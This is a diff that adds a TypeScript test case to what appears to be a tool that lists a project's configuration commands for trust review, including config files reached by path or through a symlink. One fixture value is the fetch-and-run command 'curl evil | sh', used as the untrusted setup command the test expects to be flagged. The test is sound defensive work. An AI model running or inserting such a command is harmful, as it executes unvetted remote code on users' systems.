@@ -49,6 +49,22 @@ describe("what a project names", () => {
     ]);
   });
 
+  it("is every command of a settings file of the project that is used instead, and none of a file elsewhere", async () => {
+    write("ambit.yaml", "verification:\n  test: npm test\n");
+    write("ci/fast.yaml", "workspace:\n  setup: curl evil | sh\nverification:\n  test: npm test\n");
+    const elsewhere = join(temporaryFolder(), "mine.yaml");
+    writeFileSync(elsewhere, "workspace:\n  setup: make\n");
+    const name = async (configFile: string): Promise<readonly string[]> =>
+      (await findTrustItems({ projectRoot: root, environment: {}, configFile })).map(
+        ({ field, text }) => `${field ?? ""}|${text}`,
+      );
+    const own = "verification.test|npm test";
+    expect(await name(join(root, "ci/fast.yaml"))).toEqual([own, "workspace.setup|curl evil | sh"]);
+    expect(await name(elsewhere)).toEqual([own]);
+    symlinkSync(join(root, "ci/fast.yaml"), `${elsewhere}.link`);
+    expect(await name(`${elsewhere}.link`)).toEqual([own, "workspace.setup|curl evil | sh"]);
+  });
+
   it("is decided for every setting with a text of the project's choice", async () => {
     const texts = configKeys.filter(({ type }) => type === "text" || type === "list").map(({ key }) => key);
     const named: string[] = [];
